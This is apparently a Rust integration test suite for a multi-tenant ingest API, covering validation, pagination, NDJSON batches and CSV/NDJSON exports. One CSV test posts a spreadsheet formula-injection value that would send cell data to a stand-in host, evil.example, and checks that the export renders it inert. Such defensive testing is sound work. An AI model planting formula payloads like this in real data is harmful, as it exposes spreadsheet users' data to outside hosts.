use serde_json::json;

use crate::on_both_backends;
use crate::support::{JSON, NDJSON, TestApp, error, json, ndjson, rule_run};

on_both_backends!(
    single_record_is_created_then_a_duplicate_then_a_conflict,
    generated_ids_are_returned,
    ndjson_batches_are_atomic_and_name_the_bad_line,
    malformed_bodies_are_400_with_the_line,
    wrong_content_type_is_415,
    lists_paginate_newest_first_with_cursors,
    list_parameters_are_validated,
    exports_stream_every_row_as_ndjson_and_csv,
    every_record_kind_is_ingested_and_listed,
);

async fn single_record_is_created_then_a_duplicate_then_a_conflict(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme"]).await;
    let path = "/v1/tenants/acme/rule-runs";
    let (status, body) = json(app.post(&token, path, JSON, rule_run("r1", 1).to_string()).await).await;
    assert_eq!((status, &body), (201, &json!({"id": "r1", "received": 1, "inserted": 1, "duplicates": 0})));
    let (status, body) = json(app.post(&token, path, JSON, rule_run("r1", 1).to_string()).await).await;
    assert_eq!((status, body["duplicates"].as_u64()), (200, Some(1)));
    let mut changed = rule_run("r1", 1);
    changed["findings_created"] = json!(7);
    let err = error(app.post(&token, path, JSON, changed.to_string()).await, 409, "conflict").await;
    assert_eq!(err["field"], "id");
}

async fn generated_ids_are_returned(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme", "obs:read#tenant/acme"]).await;
    let mut run = rule_run("x", 1);
    run.as_object_mut().unwrap().remove("id");
    let (status, body) = json(app.post(&token, "/v1/tenants/acme/rule-runs", JSON, run.to_string()).await).await;
    assert_eq!(status, 201);
    let id = body["id"].as_str().unwrap().to_owned();
    let (_, page) = json(app.get(&token, "/v1/tenants/acme/rule-runs").await).await;
    assert_eq!(page["items"][0]["id"], id.as_str());
}

async fn ndjson_batches_are_atomic_and_name_the_bad_line(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme", "obs:read#tenant/acme"]).await;
    let path = "/v1/tenants/acme/rule-runs";
    let mut bad = rule_run("r3", 3);
    bad["findings_created"] = json!(-1);
    let body = ndjson(&[rule_run("r1", 1), rule_run("r2", 2), bad]);
    let err = error(app.post(&token, path, NDJSON, body).await, 422, "invalid_field").await;
    assert_eq!((err["line"].as_u64(), err["field"].as_str()), (Some(3), Some("findings_created")));
    let (_, page) = json(app.get(&token, path).await).await;
    assert_eq!(page["items"].as_array().unwrap().len(), 0, "nothing of a rejected batch is written");

    let mut late = rule_run("r4", 4);
    late["finished_at"] = json!("2026-11-22T09:00:00Z");
    let err =
        error(app.post(&token, path, NDJSON, ndjson(&[rule_run("r1", 1), late])).await, 422, "invalid_field").await;
    assert_eq!((err["line"].as_u64(), err["field"].as_str()), (Some(2), Some("finished_at")));
    let mut bad_trace = rule_run("r5", 5);
    bad_trace["trace_id"] = json!("not-a-trace");
    let err = error(app.post(&token, path, JSON, bad_trace.to_string()).await, 422, "invalid_field").await;
    assert_eq!(err["field"], "trace_id");
    let mut unknown = rule_run("r6", 6);
    unknown["colour"] = json!("red");
    let err = error(app.post(&token, path, JSON, unknown.to_string()).await, 422, "invalid_field").await;
    assert_eq!(err["field"], "colour");
    let mut long = rule_run("r7", 7);
    long["rule_key"] = json!("k".repeat(161));
    let err = error(app.post(&token, path, JSON, long.to_string()).await, 422, "invalid_field").await;
    assert_eq!(err["field"], "rule_key");

    let body = ndjson(&[rule_run("r1", 1), rule_run("r2", 2), rule_run("r1", 1)]);
    let (status, summary) = json(app.post(&token, path, NDJSON, body).await).await;
    assert_eq!((status, &summary), (200, &json!({"received": 3, "inserted": 2, "duplicates": 1})));
}

async fn malformed_bodies_are_400_with_the_line(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme"]).await;
    let path = "/v1/tenants/acme/rule-runs";
    let body = format!("{}\n{{\"rule_key\": \n", rule_run("r1", 1));
    let err = error(app.post(&token, path, NDJSON, body).await, 400, "malformed_body").await;
    assert_eq!(err["line"], 2);
    error(app.post(&token, path, JSON, "").await, 400, "malformed_body").await;
    error(app.post(&token, path, JSON, vec![0xff, 0xfe, b'{']).await, 400, "malformed_body").await;
}

async fn wrong_content_type_is_415(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme"]).await;
    let body = rule_run("r1", 1).to_string();
    error(
        app.post(&token, "/v1/tenants/acme/rule-runs", "text/plain", body.clone()).await,
        415,
        "unsupported_media_type",
    )
    .await;
    let response =
        app.client.post(app.url("/v1/tenants/acme/rule-runs")).bearer_auth(&token).body(body).send().await.unwrap();
    error(response, 415, "unsupported_media_type").await;
    let response = app
        .post(&token, "/v1/tenants/acme/rule-runs", "application/json; charset=utf-8", rule_run("r2", 1).to_string())
        .await;
    assert_eq!(response.status(), 201, "parameters of the media type are allowed");
}

async fn lists_paginate_newest_first_with_cursors(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme", "obs:read#tenant/acme"]).await;
    let runs: Vec<_> = (0..25).map(|i| rule_run(&format!("r{i:02}"), i)).collect();
    app.post(&token, "/v1/tenants/acme/rule-runs", NDJSON, ndjson(&runs)).await;
    let mut ids = Vec::new();
    let mut path = "/v1/tenants/acme/rule-runs?limit=10".to_owned();
    loop {
        let (status, page) = json(app.get(&token, &path).await).await;
        assert_eq!(status, 200);
        ids.extend(page["items"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap().to_owned()));
        assert!(page["items"][0]["received_at"].is_string());
        match page["next_cursor"].as_str() {
            Some(cursor) => path = format!("/v1/tenants/acme/rule-runs?limit=10&cursor={cursor}"),
            None => break,
        }
    }
    let expected: Vec<String> = (0..25).rev().map(|i| format!("r{i:02}")).collect();
    assert_eq!(ids, expected);
    let (_, page) =
        json(app.get(&token, "/v1/tenants/acme/rule-runs?from=2026-11-22T10:05:00Z&to=2026-11-22T10:07:00Z").await)
            .await;
    let ids: Vec<&str> = page["items"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["r06", "r05"]);
}

async fn list_parameters_are_validated(app: TestApp) {
    let token = app.token(&["obs:read#tenant/acme"]).await;
    let cases = [
        ("limit=0", "limit"),
        ("limit=1001", "limit"),
        ("limit=ten", "limit"),
        ("from=yesterday", "from"),
        ("from=2026-11-22T10:00:00Z&to=2026-11-22T09:00:00Z", "to"),
        ("cursor=garbage!", "cursor"),
        ("status=exploded", "status"),
        ("format=xml", "format"),
        ("colour=red", "colour"),
        ("status=failed&status=succeeded", "status"),
    ];
    for (query, field) in cases {
        let err =
            error(app.get(&token, &format!("/v1/tenants/acme/rule-runs?{query}")).await, 422, "invalid_field").await;
        assert_eq!(err["field"], field, "{query}");
    }
}

async fn exports_stream_every_row_as_ndjson_and_csv(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme", "obs:read#tenant/acme"]).await;
    // More rows than one export page, so the stream crosses page boundaries.
    let runs: Vec<_> = (0..2500).map(|i| rule_run(&format!("r{i:04}"), i % 60)).collect();
    let (status, _) = json(app.post(&token, "/v1/tenants/acme/rule-runs", NDJSON, ndjson(&runs)).await).await;
    assert_eq!(status, 200);

    let response = app.get(&token, "/v1/tenants/acme/rule-runs?format=ndjson").await;
    assert_eq!(response.headers()["content-type"], "application/x-ndjson");
    let text = response.text().await.unwrap();
    let lines: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 2500);
    let unique: std::collections::HashSet<&str> = lines.iter().map(|l| l["id"].as_str().unwrap()).collect();
    assert_eq!(unique.len(), 2500);

    let text = app.get(&token, "/v1/tenants/acme/rule-runs?format=ndjson&limit=1234").await.text().await.unwrap();
    assert_eq!(text.lines().count(), 1234);

    let response = app.get(&token, "/v1/tenants/acme/rule-runs?format=csv&limit=3").await;
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    let text = response.text().await.unwrap();
    let rows: Vec<&str> = text.lines().collect();
    assert_eq!(rows.len(), 4);
    assert!(rows[0].starts_with("id,rule_key,rule_version,integration_id,status,events_evaluated"), "{}", rows[0]);
    assert!(rows[0].ends_with(",context,received_at"));
    assert!(rows[1].starts_with("r"), "{}", rows[1]);

    // A reported text that a spreadsheet would run as a formula is exported inert.
    let hostile = json!({"id": "x-1", "rule_key": "k", "status": "failed", "started_at": "2026-11-22T10:00:00Z",
        "error_message": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"});
    assert_eq!(app.post(&token, "/v1/tenants/acme/rule-runs", JSON, hostile.to_string()).await.status(), 201);
    let csv = app.get(&token, "/v1/tenants/acme/rule-runs?format=csv&status=failed").await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let error = header.iter().position(|h| h == "error_message").unwrap();
    assert_eq!(&row[error], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
}

async fn every_record_kind_is_ingested_and_listed(app: TestApp) {
    let token = app.token(&["ingest:write#tenant/acme", "obs:read#tenant/acme"]).await;
    let sync = json!({"id": "s1", "integration_id": "okta-prod", "triggered_by": "scheduled", "status": "succeeded",
        "events_ingested": 500, "started_at": "2026-11-22T10:00:00Z", "finished_at": "2026-11-22T10:00:05Z"});
    assert_eq!(app.post(&token, "/v1/tenants/acme/connector-syncs", JSON, sync.to_string()).await.status(), 201);
    let (_, page) = json(app.get(&token, "/v1/tenants/acme/connector-syncs?integration_id=okta-prod").await).await;
    assert_eq!(page["items"][0]["events_ingested"], 500);

    let delivery = json!({"id": "d1", "destination_id": "splunk", "status": "retrying", "attempt": 2,
        "latency_ms": 900, "error_message": "HTTP 429", "attempted_at": "2026-11-22T10:00:00Z"});
    assert_eq!(app.post(&token, "/v1/tenants/acme/deliveries", JSON, delivery.to_string()).await.status(), 201);
    let (_, page) = json(app.get(&token, "/v1/tenants/acme/deliveries?status=retrying").await).await;
    assert_eq!(page["items"][0]["attempt"], 2);

    let snapshot = json!({"depth": {"pending": 12, "dead_lettered": 3}, "oldest_item_age_ms": 4000});
    let response =
        app.post(&token, "/v1/tenants/acme/components/siem-queue/snapshots", JSON, snapshot.to_string()).await;
    let err = error(response, 404, "not_found").await;
    assert!(err["message"].as_str().unwrap().contains("siem-queue"));
    app.put_json(&token, "/v1/tenants/acme/components/siem-queue", &json!({"kind": "ingestion_queue"})).await;
    let response =
        app.post(&token, "/v1/tenants/acme/components/siem-queue/snapshots", JSON, snapshot.to_string()).await;
    assert_eq!(response.status(), 201);
    let (_, page) = json(app.get(&token, "/v1/tenants/acme/components/siem-queue/snapshots").await).await;
    assert_eq!(page["items"][0]["depth"], json!({"pending": 12, "in_flight": 0, "retrying": 0, "dead_lettered": 3}));
    let (_, page) = json(app.get(&token, "/v1/tenants/acme/snapshots?component_id=siem-queue").await).await;
    assert_eq!(page["items"].as_array().unwrap().len(), 1);
    let err = error(
        app.get(&token, "/v1/tenants/acme/components/siem-queue/snapshots?component_id=x").await,
        422,
        "invalid_field",
    )
    .await;
    assert_eq!(err["field"], "component_id");
}
